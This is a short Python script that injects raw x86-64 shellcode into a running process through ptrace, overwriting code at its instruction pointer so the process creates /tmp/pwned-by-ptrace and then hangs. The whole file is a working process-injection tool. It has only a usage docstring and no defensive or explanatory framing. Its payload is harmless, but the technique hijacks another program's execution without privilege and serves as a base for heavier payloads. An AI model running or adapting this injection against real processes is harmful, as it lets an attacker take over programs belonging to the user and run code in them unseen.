"""Make a running process of this login run other code, its exe unchanged (ptrace, same uid, no privilege).
usage: python3 inject.py PID  -> the process mkdirs /tmp/pwned-by-ptrace then pauses forever"""
import ctypes
import os
import struct
import sys

pid = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, GETREGS, SETREGS, POKE, DETACH = 16, 12, 13, 4, 17
assert libc.ptrace(ATTACH, pid, None, None) == 0, os.strerror(ctypes.get_errno())
os.waitpid(pid, 0)
regs = (ctypes.c_ulong * 27)()
libc.ptrace(GETREGS, pid, None, ctypes.byref(regs))
path = b"/tmp/pwned-by-ptrace\0"
code = (b"\x48\x8d\x3d\x15\x00\x00\x00" b"\xbe\xed\x01\x00\x00" b"\xb8\x53\x00\x00\x00" b"\x0f\x05"
        b"\xb8\x22\x00\x00\x00" b"\x0f\x05" b"\xeb\xf7") + path
code += b"\0" * (-len(code) % 8)
rip = regs[16]
for i in range(0, len(code), 8):
    assert libc.ptrace(POKE, pid, ctypes.c_void_p(rip + i), ctypes.c_void_p(struct.unpack("<Q", code[i:i+8])[0])) == 0
regs[15] = 0xffffffffffffffff  # orig_rax -1: no syscall restart
libc.ptrace(SETREGS, pid, None, ctypes.byref(regs))
libc.ptrace(DETACH, pid, None, None)
print("injected", pid, hex(rip))
